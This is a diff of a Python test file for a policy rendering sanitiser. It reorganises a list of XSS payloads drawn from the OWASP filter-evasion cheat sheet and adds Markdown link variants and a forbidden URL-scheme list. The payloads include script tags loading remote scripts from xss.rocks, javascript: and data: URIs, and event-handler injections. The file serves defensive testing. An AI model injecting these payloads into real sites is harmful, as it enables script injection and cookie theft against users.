@@ -10,78 +10,42 @@ import pytest
 from policies.rendering import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render, render_html
 
 from .factories import make_organisation, make_person, make_policy
+from .xss_payloads import XSS_PAYLOADS
 
-# From https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
-PAYLOADS = [
+# The shared OWASP list, plus what only a Markdown renderer meets (Markdown links and images,
+# entity-encoded schemes, remote script sources): the cheat sheet's
+# https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
+RENDERING_PAYLOADS = [
     "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
-    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
-    "<IMG SRC=\"javascript:alert('XSS');\">",
-    "<IMG SRC=javascript:alert('XSS')>",
-    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
-    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
-    '<a onmouseover="alert(document.cookie)">xxs link</a>',
-    "<a onmouseover=alert(document.cookie)>xxs link</a>",
-    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
-    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
-    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
-    "<IMG SRC= onmouseover=\"alert('xxs')\">",
-    "<IMG onmouseover=\"alert('xxs')\">",
-    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
-    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
-    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
-    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
-    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
-    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
-    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
     '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
-    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
     '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
-    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
     "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
     "<SCRIPT SRC=//xss.rocks/.j>",
     "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
     "<iframe src=http://xss.rocks/scriptlet.html <",
-    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
-    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
-    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
-    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
     "<IMG LOWSRC=\"javascript:alert('XSS')\">",
     "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
     "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
-    "<svg/onload=alert('XSS')>",
     "<BODY ONLOAD=alert('XSS')>",
     "<BGSOUND SRC=\"javascript:alert('XSS');\">",
-    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
     "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
-    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
     "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
-    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
     "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
-    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
-    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
     "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
     '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
     '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
-    "<BASE HREF=\"javascript:alert('XSS');//\">",
     "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
     "<form><button formaction=javascript:alert(1)>X</button></form>",
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
     "<details open ontoggle=alert(1)>",
-    # The same tricks written as Markdown rather than HTML.
     "[klikk](javascript:alert(1))",
     "[klikk](JaVaScRiPt:alert(1))",
     "[klikk](&#106;avascript:alert(1))",
-    "![bilde](javascript:alert(1))",
     '[klikk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== "x")',
     '<https://example.com/"onmouseover="alert(1)>',
     '[x](https://example.com/" onmouseover="alert(1))',
 ]
+PAYLOADS = XSS_PAYLOADS + RENDERING_PAYLOADS
 
 FORBIDDEN_URL_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
 
